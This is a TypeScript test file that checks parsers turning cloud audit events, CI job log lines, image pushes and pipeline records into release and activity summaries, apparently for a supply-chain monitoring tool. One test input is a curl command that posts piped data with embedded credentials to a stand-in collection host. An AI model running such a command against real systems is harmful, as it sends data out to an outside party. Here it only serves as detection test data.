import { describe, expect, it } from 'vitest';
import { cloudReleaseOf } from './cloud-release.ts';
import { imagePushOf } from './image-push.ts';
import { jobLogLineOf } from './job-log-line.ts';
import { definitionChangeOf, pipelineRunOf } from './pipeline-run.ts';

describe('cloudReleaseOf', () => {
  const aws = (eventSource: string, eventName: string, more: object = {}): object => ({ eventSource, eventName, sourceIPAddress: '192.0.2.1', userIdentity: { sessionContext: { sessionIssuer: { userName: 'web-deploy' } }, arn: 'x' }, ...more });

  it('names what is released by whom, for each cloud', () => {
    expect(cloudReleaseOf('aws', aws('ecs.amazonaws.com', 'UpdateService', { requestParameters: { cluster: 'arn:aws:ecs:x:1:cluster/production', service: 'web' } }))).toMatchObject({ target: 'ecs production/web', actor: 'web-deploy', address: '192.0.2.1' });
    expect(cloudReleaseOf('gcp', { protoPayload: { methodName: 'google.cloud.run.v1.Services.ReplaceService', resourceName: 'namespaces/p/services/web', authenticationInfo: { principalEmail: 'ci@p.iam.gserviceaccount.com' } } })).toMatchObject({ target: 'gcp namespaces/p/services/web', call: 'ReplaceService' });
    expect(cloudReleaseOf('azure', { OperationNameValue: 'Microsoft.App/containerApps/write', ResourceId: '/subscriptions/s/resourceGroups/g/providers/Microsoft.App/containerApps/Web', caller: 'mira' })).toMatchObject({ target: 'azure containerapps/web' });
    expect(cloudReleaseOf('kubernetes', { verb: 'patch', objectRef: { resource: 'deployments', namespace: 'shop', name: 'web' }, user: { username: 'argo' }, sourceIPs: ['10.0.0.1'] })).toMatchObject({ target: 'deployments shop/web', address: '10.0.0.1' });
  });

  it('knows a build that takes a role', () => {
    const exchanged = aws('sts.amazonaws.com', 'AssumeRoleWithWebIdentity', { userIdentity: { userName: 'repo:acme/web:ref:refs/heads/main' }, requestParameters: { roleArn: 'arn:aws:iam::1:role/web-deploy' } });
    expect(cloudReleaseOf('aws', exchanged)).toMatchObject({ target: 'cloud access of acme/web', call: 'role web-deploy', claim: 'ref:refs/heads/main' });
  });

  it('leaves reading, failures and the cluster itself alone', () => {
    expect(cloudReleaseOf('aws', aws('ecs.amazonaws.com', 'DescribeServices'))).toBeUndefined();
    expect(cloudReleaseOf('aws', aws('ecs.amazonaws.com', 'UpdateService', { requestParameters: { service: 'web' }, errorCode: 'AccessDenied' }))).toBeUndefined();
    expect(cloudReleaseOf('kubernetes', { verb: 'patch', objectRef: { resource: 'deployments' }, user: { username: 'system:kube-controller-manager' } })).toBeUndefined();
    for (const value of [null, 'x', [], { protoPayload: 1 }]) for (const product of ['aws', 'gcp', 'azure', 'kubernetes', undefined]) expect(cloudReleaseOf(product, value)).toBeUndefined();
  });
});

describe('jobLogLineOf', () => {
  const line = (text: string, more: object = {}): ReturnType<typeof jobLogLineOf> => jobLogLineOf({ text, forge: 'github', log: 'web/12_build.txt', ...more });

  it('finds hosts, rights, actions, artifacts, runners and where jobs begin', () => {
    expect(line('curl -d @- https://user:pw@Collect.example/x', { run: 'curl' })).toMatchObject({ hosts: ['collect.example'], command: 'curl', log: 'web/#_build.txt' });
    expect(line('Contents: write')).toMatchObject({ permission: 'contents: write' });
    expect(line(`Download action repository 'actions/checkout@v4' (SHA:${'a'.repeat(40)})`)).toMatchObject({ action: 'actions/checkout@v4' });
    expect(line('Artifact dist has been successfully uploaded! Final size is 9 bytes.')).toMatchObject({ artifact: 'dist' });
    expect(line("Runner name: 'runner-03'")).toMatchObject({ runner: 'runner-03' });
    expect(line('Job is about to start running on the runner: x')).toMatchObject({ turn: 'begins' });
    expect(line('compiled 12 files')).toBeUndefined();
    expect(jobLogLineOf(null)).toBeUndefined();
  });
});

describe('imagePushOf', () => {
  it('reads the names of both registries', () => {
    expect(imagePushOf('docker', { action: 'push', repository: 'acme/web', tag: 'v1', size: 9, user: 'ci' })).toMatchObject({ repository: 'acme/web', tag: 'v1', size: 9, actor: 'ci' });
    expect(imagePushOf('harbor', { action: 'PUSH_ARTIFACT', resource: 'harbor.example/acme/web:v1', user: 'ci' })).toMatchObject({ repository: 'harbor.example/acme/web', tag: 'v1' });
    expect(imagePushOf('docker', { action: 'pull', repository: 'acme/web' })).toBeUndefined();
    expect(imagePushOf('aws', {})).toBeUndefined();
  });
});

describe('pipelineRunOf and definitionChangeOf', () => {
  it('keep to their limits whatever the record holds', () => {
    const run = pipelineRunOf({ repo: 'Acme/Web', pipeline_run: { kind: 'job', job: 'x'.repeat(5000), steps: Array.from({ length: 5000 }, () => 'y'), seconds: 'many', hosted: 'no' } });
    expect(run).toMatchObject({ place: 'acme/web', seconds: undefined, hosted: undefined });
    expect([run?.job?.length, run?.steps.length]).toEqual([200, 200]);
    expect(pipelineRunOf({ repo: 'a/b', pipeline_run: { kind: 'other' } })).toBeUndefined();
    expect(pipelineRunOf({ pipeline_run: { kind: 'job' } })).toBeUndefined();
  });

  it('know the files that define pipelines', () => {
    const push = (paths: unknown): ReturnType<typeof definitionChangeOf> => definitionChangeOf({ action: 'git.push', repo: 'a/b', paths, ref: 'refs/heads/main' });
    expect(push(['.github/workflows/ci.yml', 'src/a.ts', 'tools/x/action.yml', '.gitlab-ci.yml'])?.paths).toEqual(['.github/workflows/ci.yml', 'tools/x/action.yml', '.gitlab-ci.yml']);
    expect(push(['src/a.ts'])?.paths).toEqual([]);
    expect(push(undefined)).toBeUndefined();
  });
});
